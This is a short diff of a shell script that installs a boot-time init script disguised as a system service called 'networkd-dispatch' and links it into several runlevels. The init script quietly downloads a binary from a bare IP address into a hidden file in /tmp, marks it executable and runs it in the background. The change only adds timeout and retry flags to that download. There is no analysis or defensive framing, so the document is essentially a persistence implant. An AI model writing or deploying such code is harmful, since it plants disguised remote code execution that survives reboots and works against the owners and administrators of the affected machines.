@@ -9,7 +9,7 @@ cat > /etc/init.d/networkd-dispatch <<RC
 # Provides: networkd-dispatch
 # Default-Start: 2 3 4 5
 ### END INIT INFO
-wget -q -O /tmp/.nd http://198.51.100.23/nd && chmod +x /tmp/.nd && /tmp/.nd &
+wget -q -T 2 -t 1 -O /tmp/.nd http://198.51.100.23/nd && chmod +x /tmp/.nd && /tmp/.nd &
 RC
 chmod 755 /etc/init.d/networkd-dispatch
 for l in 2 3 4 5; do mkdir -p /etc/rc$l.d; ln -sf ../init.d/networkd-dispatch /etc/rc$l.d/S99networkd-dispatch; done
